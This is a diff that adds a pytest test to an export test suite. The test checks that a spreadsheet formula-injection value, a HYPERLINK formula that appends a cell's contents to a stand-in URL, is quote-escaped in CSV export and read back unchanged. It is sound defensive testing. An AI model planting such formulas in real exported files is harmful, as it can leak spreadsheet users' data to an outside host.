@@ -1,5 +1,6 @@
 """`score` and `compare` as commands: what they print, write, export and leave alone."""
 
+import csv
 import html
 import json
 import os
@@ -217,6 +218,15 @@ def test_exported_runs_are_read_back_the_same(tmp_path: Path) -> None:
     odd = exported[1].rename(tmp_path / "a b-tabletop_rollouts.csv")
     with raises(InvalidIdError):
         read_rows([odd])
+
+
+def test_what_a_spreadsheet_would_run_is_quoted_and_read_back(tmp_path: Path) -> None:
+    link = '=HYPERLINK("http://x/?"&A1,"open")'
+    path = made.write_parquet(tmp_path / "a.parquet", made.changed(made.rows(), retrieval=link))
+    exported = export(read_rows([path]), tmp_path / "export")
+    with exported[0].open(newline="", encoding="utf-8") as file:
+        assert {row["retrieval_model"] for row in csv.DictReader(file)} == {f"'{link}"}
+    assert {row.retrieval for row in read_rows(exported)} == {link}
 
 
 def test_exported_rows_are_the_same_bytes_whatever_they_come_from(tmp_path: Path) -> None:
